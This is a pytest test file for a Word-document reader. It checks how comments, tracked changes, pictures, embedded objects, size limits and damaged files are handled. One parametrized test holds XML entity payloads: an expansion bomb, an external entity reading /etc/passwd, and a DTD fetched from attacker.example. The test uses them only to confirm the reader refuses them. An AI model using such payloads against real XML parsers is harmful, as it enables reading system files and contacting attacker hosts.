"""What of a Word file is no text, what cannot be read, and what is refused."""

from __future__ import annotations

import docx
import pytest

from reviewer.errors import EmptySubmission, TooLarge, UnreadableDocument
from reviewer.readers.limits import Limits
from reviewer.submission import RemarkKind
from tests.readers import office
from tests.readers.docx_files import body, reading
from tests.readers.office import paragraph, run, word


def test_comments_are_notes_with_their_place() -> None:
    """What colleagues wrote beside the text is told, and is no part of it."""
    document = docx.Document()
    document.add_paragraph("First.")
    line = document.add_paragraph("We score tenants.")
    document.add_comment(line.runs, text="Is this allowed?", author="A reviewer")
    found = reading(office.saved(document))
    assert found.text == "First.\n\nWe score tenants."
    (note,) = found.remarks
    assert (note.kind, note.text, note.source.paragraph) == (
        RemarkKind.NOTE,
        "A comment says: 'Is this allowed?'",
        2,
    )


def test_tracked_changes_are_notes() -> None:
    """What was put in is text, what was taken out is not, and both are told."""
    found = body(
        paragraph(
            run("We "),
            "<w:del><w:r><w:delText>never </w:delText></w:r></w:del>",
            f"<w:ins>{run('always ')}</w:ins>",
            "<w:moveFrom><w:r><w:t>elsewhere </w:t></w:r></w:moveFrom>",
            run("score tenants."),
        )
    )
    assert found.text == "We always score tenants."
    assert office.remarks(found, RemarkKind.NOTE) == [
        "Deleted by a tracked change: 'never'",
        "Inserted by a tracked change: 'always'",
    ]
    assert {remark.source.paragraph for remark in found.remarks} == {1}


def test_long_lists_of_notes_end() -> None:
    """Of 162 comments fifty are shown, and the rest counted."""
    document = docx.Document()
    line = document.add_paragraph("Words.")
    for number in range(162):
        document.add_comment(line.runs, text=f"Comment {number}")
    notes = office.remarks(reading(office.saved(document)), RemarkKind.NOTE)
    assert (len(notes), notes[-1]) == (51, "And 112 more comments.")


def test_pictures_are_counted_as_not_read() -> None:
    """Two pictures in the text bar an approval; the logo in the header is only told."""
    document = docx.Document()
    document.add_paragraph("Words.")
    document.add_picture(office.dot())
    document.add_picture(office.dot())
    document.sections[0].header.paragraphs[0].add_run().add_picture(office.dot())
    found = reading(office.saved(document))
    assert office.remarks(found, RemarkKind.UNREAD) == ["2 pictures were not read."]
    assert office.remarks(found, RemarkKind.NOTE) == ["1 picture in the headers and footers was not read."]


def test_objects_and_charts_are_counted_as_not_read() -> None:
    """An embedded workbook is counted once, not its preview as well."""
    found = body(
        paragraph(run("Words."))
        + paragraph("<w:r><w:object><v:shape><v:imagedata/></v:shape><o:OLEObject/></w:object></w:r>")
        + paragraph("<w:r><w:drawing><c:chart/></w:drawing></w:r>")
        + "<w:altChunk/>"
    )
    assert office.remarks(found, RemarkKind.UNREAD) == [
        "1 chart was not read.",
        "1 embedded document was not read.",
        "1 embedded object was not read.",
    ]


def test_pictures_alone_need_text_recognition() -> None:
    """A scan that was put into a Word file is refused, and the cure is said."""
    document = docx.Document()
    document.add_picture(office.dot())
    with pytest.raises(UnreadableDocument, match=r"plan\.docx: it holds 1 picture and no text; run text recognition"):
        reading(office.saved(document))


def test_an_empty_document_is_empty() -> None:
    """A file without a word says so."""
    with pytest.raises(EmptySubmission):
        reading(office.saved(docx.Document()))


def test_too_many_characters_stop_the_reading() -> None:
    """The limit holds while the text grows, in paragraphs and in tables."""
    document = docx.Document()
    for _ in range(30):
        document.add_paragraph("Ten words.")
    with pytest.raises(TooLarge, match="more than the limit of 100"):
        reading(office.saved(document), Limits(max_characters=100))


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]>',
        '<!DOCTYPE a [<!ENTITY c SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(declaration: str, encoding: str) -> None:
    """Nothing that a file declares is expanded, in whatever encoding it says it."""

    def attack(part: bytes) -> bytes:
        head = f'<?xml version="1.0" encoding="{encoding}"?>{declaration}'
        return (head + part.decode("utf-8")).encode(encoding)

    data = office.changed(word(paragraph(run("Words."))), "word/document.xml", attack)
    with pytest.raises(UnreadableDocument, match=r"'word/document\.xml' declares entities"):
        reading(data)


def test_broken_xml_is_named() -> None:
    """A part that breaks off is said to be damaged, with its name."""
    data = office.changed(word(paragraph(run("Words."))), "word/document.xml", lambda part: part[:-9])
    with pytest.raises(UnreadableDocument, match=r"damaged or cut off \('word/document\.xml'"):
        reading(data)


def test_a_missing_part_is_named() -> None:
    """A file that leads to a part that it does not hold is damaged."""
    members = office.unpacked(word(paragraph(run("Words.")), {"footnotes": "<w:footnotes NAMES/>"}))
    del members["word/footnotes.xml"]
    with pytest.raises(UnreadableDocument, match=r"its part 'word/footnotes\.xml' is missing"):
        reading(office.packed(members))


@pytest.mark.parametrize("members", [{"a.txt": "words"}, {"_rels/.rels": "<Relationships/>"}])
def test_another_archive_is_no_word_file(members: dict[str, str]) -> None:
    """What is only named like a Word file is refused."""
    with pytest.raises(UnreadableDocument, match="named like a Word file, but holds none"):
        reading(office.packed(members))


def test_a_cut_file_is_refused() -> None:
    """Half a download is no shorter document."""
    data = office.saved(docx.Document())
    with pytest.raises(UnreadableDocument, match="damaged or cut off"):
        reading(data[: len(data) // 2])


def test_absurd_nesting_is_refused() -> None:
    """No person writes three hundred things within one another."""
    with pytest.raises(UnreadableDocument, match="damaged"):
        body(paragraph("<w:ins>" * 300 + run("Deep.") + "</w:ins>" * 300))
